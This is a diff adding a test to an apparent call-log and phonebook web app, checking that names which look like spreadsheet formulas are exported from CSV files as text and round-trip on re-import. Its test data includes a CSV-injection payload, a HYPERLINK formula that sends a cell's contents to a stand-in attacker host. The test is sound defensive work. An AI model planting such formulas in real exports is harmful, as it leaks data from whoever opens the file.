@@ -305,6 +305,42 @@ def test_phonebook_csv_import_is_all_or_nothing_and_round_trips(box, people):
     ]
 
 
+def test_a_name_that_is_a_formula_leaves_the_box_as_text(box, people):
+    """A caller ID or phonebook name such as =HYPERLINK(...) ran as a formula in the
+    spreadsheet that opened calls.csv or phonebook.csv. It now leaves with a leading
+    apostrophe (text to a spreadsheet), numbers as they were; a phonebook export
+    imports back as it was."""
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    call = add_call(box, T0_US + 3000 * S, "01632960500", name="@SUM(1+1)")
+    sam, token = people["sam"], box.token_of(people["sam"], "/phonebook")
+    book = "number,name\n01632960500,%s\n+44 1632 960002,-2+3\n" % csv_line(formula)
+    resp = sam.post(
+        "/phonebook/import", data={"csrf_token": token, "file": (io.BytesIO(book.encode()), "pb.csv")}
+    )
+    assert resp.status_code == 302
+    out = sam.get("/phonebook/phonebook.csv").get_data(as_text=True)
+    assert list(csv.reader(io.StringIO(out))) == [
+        ["number", "name"],
+        ["+441632960002", "'-2+3"],
+        ["+441632960500", "'" + formula],
+    ]
+    listed = people["alice"].get("/calls.csv").get_data(as_text=True)
+    (row,) = [r for r in csv.DictReader(io.StringIO(listed)) if r["id"] == str(call)]
+    assert row["number"] == "01632960500"
+    assert (row["caller_id_name"], row["phonebook_name"]) == ("'@SUM(1+1)", "'" + formula)
+    resp = sam.post(
+        "/phonebook/import", data={"csrf_token": token, "file": (io.BytesIO(out.encode()), "pb.csv")}
+    )
+    assert resp.status_code == 302
+    assert sam.get("/phonebook/phonebook.csv").get_data(as_text=True) == out
+
+
+def csv_line(text):
+    buf = io.StringIO()
+    csv.writer(buf, lineterminator="").writerow([text])
+    return buf.getvalue()
+
+
 def test_tags_and_notes_by_a_supervisor_of_the_line_audited(box, people):
     sam, sue = people["sam"], people["sue"]
     resp = box.post(sam, "/calls/1/tags", {"add": "complaint"}, token_from="/calls/1")
